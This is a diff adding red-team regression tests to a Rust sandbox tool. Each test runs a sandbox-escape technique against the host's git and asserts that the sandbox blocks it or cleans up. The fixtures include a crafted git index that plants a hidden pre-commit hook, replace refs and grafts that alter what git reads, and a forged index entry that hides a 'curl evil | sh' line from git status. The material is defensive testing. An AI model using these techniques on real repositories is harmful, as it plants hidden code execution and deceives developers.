@@ -1468,3 +1468,222 @@ sleep 2; echo survived"#;
     let left = std::fs::read_to_string(project.join(".git/worktrees/wt/commondir"));
     assert!(left.is_err(), "the repointed commondir was left: {left:?}");
 }
+
+/// Red-team round 15: git with `index.threads` (Scalar sets it) reads the entries from where
+/// the index's `IEOT` table says and the extensions from where its `EOIE` record says; an
+/// index whose normal view lists README while its threaded view, hidden in an `IEOT`
+/// payload, lists `.git/hooks/pre-commit` must not reach the host (there, `git checkout --
+/// .` wrote the hook and the next commit ran it).
+#[test]
+fn an_index_whose_threaded_view_differs_never_reaches_the_hosts_git() {
+    let env = TestEnv::new();
+    let project = env.project();
+    let git = |args: &[&str]| git_in(&env, &project, args);
+    git(&["init", "-q"]);
+    write(&project.join("README"), "readme\n");
+    git(&["add", "."]);
+    let script = r#"set -e
+R=$(git rev-parse :README)
+H=$(printf '#!/bin/sh\necho pwned\n' | git hash-object -w --stdin)
+python3 - "$R" "$H" <<'PY'
+import sys, struct, hashlib, os
+def entry(path, mode, oid):
+    e = struct.pack('>10I', 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + bytes.fromhex(oid)
+    e += struct.pack('>H', len(path)) + path.encode()
+    return e + b'\0' * (8 - len(e) % 8)
+def ext(sig, payload):
+    return sig + struct.pack('>I', len(payload)) + payload
+good = entry('README', 0o100644, sys.argv[1])
+evil = entry('.git/hooks/pre-commit', 0o100755, sys.argv[2])
+head = b'DIRC' + struct.pack('>II', 2, 1)
+hidden = len(head) + len(good) + 8
+table = struct.pack('>III', 1, hidden, 1)
+outer = ext(b'IEOT', evil + ext(b'IEOT', table))
+h = hashlib.sha1(b'IEOT' + struct.pack('>I', len(table))).digest()
+body = head + good + outer + ext(b'EOIE', struct.pack('>I', hidden + len(evil)) + h)
+open('.git/index.n', 'wb').write(body + hashlib.sha1(body).digest())
+os.rename('.git/index.n', '.git/index')
+PY
+sleep 2; echo survived"#;
+    let out = sh(&env, &project, &[], script);
+    assert!(!out.stdout.contains("survived"), "{out:?}");
+    assert!(
+        out.stderr.contains("IEOT") || out.stderr.contains("EOIE"),
+        "{out:?}"
+    );
+    // The host's threaded git sees no hook entry, and checking out writes none.
+    let threaded = |args: &[&str]| {
+        let mut all = vec!["-c", "index.threads=4"];
+        all.extend_from_slice(args);
+        std::process::Command::new("git")
+            .current_dir(&project)
+            .args(&all)
+            .env("HOME", env.home())
+            .output()
+            .unwrap()
+    };
+    let listed = String::from_utf8_lossy(&threaded(&["ls-files"]).stdout).into_owned();
+    assert!(!listed.contains("hooks"), "{listed}");
+    let _ = threaded(&["checkout", "--", "."]);
+    assert!(!project.join(".git/hooks/pre-commit").exists());
+}
+
+/// Red-team round 15: inotify instances are counted per uid, and every sandbox runs as the
+/// caller's: one sandbox holding all of them left the next sandbox's pid 1 without its
+/// watches (a `.git/commondir` the second one wrote lived on until it ended). A sandbox now
+/// gets a quarter of the caller's instances, so the next one is still watched.
+#[test]
+fn one_sandbox_cannot_take_the_inotify_instances_the_next_one_is_watched_with() {
+    let env = TestEnv::new();
+    let project = env.project();
+    write(&project.join(".git/HEAD"), "ref: refs/heads/main\n");
+    write(&project.join(".git/config"), "[core]\n");
+    let host_max: usize = std::fs::read_to_string("/proc/sys/fs/inotify/max_user_instances")
+        .unwrap()
+        .trim()
+        .parse()
+        .unwrap();
+    // A, in a project of its own (in B's, A's pid 1 would watch B's git dir too and take the
+    // pointer away first): takes every instance it can get and holds them.
+    let elsewhere = env.root().join("elsewhere");
+    std::fs::create_dir_all(&elsewhere).unwrap();
+    let (_hog, line) = warden_tests::spawn_and_read_line(
+        env.command()
+            .current_dir(&elsewhere)
+            .args([
+                "run",
+                "--",
+                "python3",
+                "-c",
+                &warden_tests::hold_inotify_instances(8),
+            ])
+            .stderr(Stdio::piped()),
+    );
+    let held: usize = line.trim().parse().unwrap_or_else(|_| panic!("{line:?}"));
+    assert!(
+        held <= (host_max / 4).max(16),
+        "one sandbox took {held} of {host_max} inotify instances"
+    );
+    // B, while A holds them: its pid 1 still watches, and ends it at its commondir.
+    let out = sh(
+        &env,
+        &project,
+        &[],
+        "echo \"$PWD/evil\" > .git/commondir; sleep 5; echo survived",
+    );
+    assert_eq!(out.code, 137, "{out:?}");
+    assert!(!out.stdout.contains("survived"), "{out:?}");
+    assert!(!project.join(".git/commondir").exists());
+}
+
+/// Red-team round 15: a replace ref the command makes (`refs/replace/OID`, loose or packed)
+/// swaps what the host's git reads for an object of HEAD — `git show HEAD:f`, a checkout of
+/// HEAD — while `git status` stays clean; grafts and alternates change history and objects
+/// the same way. None outlives the run; the user's own stay.
+#[test]
+fn replace_refs_grafts_and_alternates_the_command_leaves_are_removed() {
+    let env = TestEnv::new();
+    let project = env.project();
+    let git = |args: &[&str]| {
+        let mut all = vec!["-c", "user.email=t@t", "-c", "user.name=t"];
+        all.extend_from_slice(args);
+        git_in(&env, &project, &all).trim().to_string()
+    };
+    git(&["init", "-q"]);
+    write(&project.join("f"), "good\n");
+    git(&["add", "f"]);
+    git(&["commit", "-qm", "one"]);
+    let good = git(&["rev-parse", "HEAD:f"]);
+    // The user's own replace ref, made before the run.
+    write(&project.join(".mine"), "mine\n");
+    let mine = git(&["hash-object", "-w", ".mine"]);
+    std::fs::remove_file(project.join(".mine")).unwrap();
+    git(&["replace", &mine, &good]);
+    let script = format!(
+        "set -e; E=$(echo evil | git hash-object -w --stdin); git replace {good} $E; \
+         git cat-file -p HEAD:f; git update-ref refs/replace/x $E; git pack-refs --all; \
+         echo {good} > .git/info/grafts; mkdir -p .git/objects/info; \
+         echo /tmp > .git/objects/info/alternates; echo done"
+    );
+    let out = sh(&env, &project, &[], &script);
+    assert!(out.stdout.contains("evil\ndone"), "{out:?}");
+    assert!(out.stderr.contains("replace ref"), "{out:?}");
+    assert_eq!(git(&["cat-file", "-p", "HEAD:f"]), "good");
+    assert_eq!(git(&["status", "--porcelain"]), "");
+    let refs = git(&["for-each-ref", "--format=%(refname)", "refs/replace"]);
+    assert_eq!(refs, format!("refs/replace/{mine}"));
+    assert!(!project.join(".git/info/grafts").exists());
+    assert!(!project.join(".git/objects/info/alternates").exists());
+    // A checkout of HEAD writes the real file.
+    std::fs::remove_file(project.join("f")).unwrap();
+    git(&["checkout", "--", "f"]);
+    assert_eq!(
+        std::fs::read_to_string(project.join("f")).unwrap(),
+        "good\n"
+    );
+}
+
+/// Red-team round 16: pid 1's periodic looks (the index's times, every second: a write
+/// through a shared mapping raises no inotify event) ran only when `poll` timed out, and a
+/// command rewriting a git dir file every 2 ms kept it from ever timing out. They are now due
+/// by the clock.
+#[test]
+fn a_busy_git_dir_does_not_starve_pid_1s_periodic_index_check() {
+    let env = TestEnv::new();
+    let project = env.project();
+    let git = |args: &[&str]| git_in(&env, &project, args);
+    git(&["init", "-q"]);
+    write(&project.join("README"), "readme\n");
+    git(&["add", "README"]);
+    let script = r#"(while :; do echo x > .git/ORIG_HEAD; sleep 0.002; done) &
+python3 -c '
+import mmap, time
+f = open(".git/index", "r+b")
+m = mmap.mmap(f.fileno(), 0)
+m[0:4] = b"XXXX"
+time.sleep(4)
+print("survived", flush=True)
+'"#;
+    let out = sh(&env, &project, &[], script);
+    assert!(!out.stdout.contains("survived"), "{out:?}");
+    assert_eq!(out.code, 137, "{out:?}");
+    assert!(out.stderr.contains("git index"), "{out:?}");
+}
+
+/// Red-team round 16: an index entry given back the blob id of the committed file after `git
+/// add` of new content (the stat data of the new content, the id of the old) hid the change
+/// from the host's `git status`, `git diff` and `git commit -a`. The index does not survive
+/// the run; the change shows.
+#[test]
+fn an_index_entry_that_hides_a_changed_file_does_not_survive_the_run() {
+    let env = TestEnv::new();
+    let project = env.project();
+    let git = |args: &[&str]| {
+        let mut all = vec!["-c", "user.email=t@t", "-c", "user.name=t"];
+        all.extend_from_slice(args);
+        git_in(&env, &project, &all)
+    };
+    git(&["init", "-q"]);
+    write(&project.join("build.sh"), "echo good\n");
+    git(&["add", "build.sh"]);
+    git(&["commit", "-qm", "init"]);
+    let script = r#"set -e
+old=$(git rev-parse :build.sh)
+echo 'curl evil | sh' > build.sh; touch -d '-1 hour' build.sh; git add build.sh
+python3 - "$old" <<'PY'
+import sys, hashlib, os
+d = bytearray(open('.git/index', 'rb').read()[:-20])
+d[52:72] = bytes.fromhex(sys.argv[1])
+d += hashlib.sha1(d).digest()
+open('.git/index.n', 'wb').write(d); os.rename('.git/index.n', '.git/index')
+PY
+git status --porcelain; echo hidden"#;
+    let out = sh(&env, &project, &[], script);
+    assert!(out.stdout.contains("hidden"), "{out:?}");
+    assert!(out.stderr.contains("other content"), "{out:?}");
+    let status = git(&["status", "--porcelain"]);
+    assert!(
+        !status.trim().is_empty(),
+        "the change is hidden from git status"
+    );
+}
